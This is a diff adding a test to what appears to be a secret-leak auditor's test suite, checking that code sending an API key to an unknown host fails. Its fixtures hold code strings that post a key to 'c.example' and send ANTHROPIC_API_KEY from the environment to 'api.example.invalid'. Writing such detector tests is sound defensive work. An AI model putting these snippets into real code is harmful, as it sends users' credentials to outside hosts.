@@ -153,3 +153,13 @@ def test_another_name_of_a_declared_key_is_a_warning_and_another_service_s_key_b
     assert audited({**told, "a.py": other.replace("HUGGING_FACE_HUB", "GITHUB")}).verdict is Verdict.FAIL
     sent = "import requests\nrequests.post('https://c.example', data=key)\n"
     assert audited({**told, "a.py": other + sent}).verdict is Verdict.FAIL
+
+
+def test_the_address_of_a_request_is_where_its_key_goes() -> None:
+    text = (
+        "import os, urllib.request\n"
+        "request = urllib.request.Request('https://{}/v1', headers={{'x-api-key': os.environ['ANTHROPIC_API_KEY']}})\n"
+        "urllib.request.urlopen(request)\n"
+    )
+    assert audited({"tool.py": text.format("api.anthropic.com")}).verdict is Verdict.WARN
+    assert audited({"tool.py": text.format("api.example.invalid")}).verdict is Verdict.FAIL
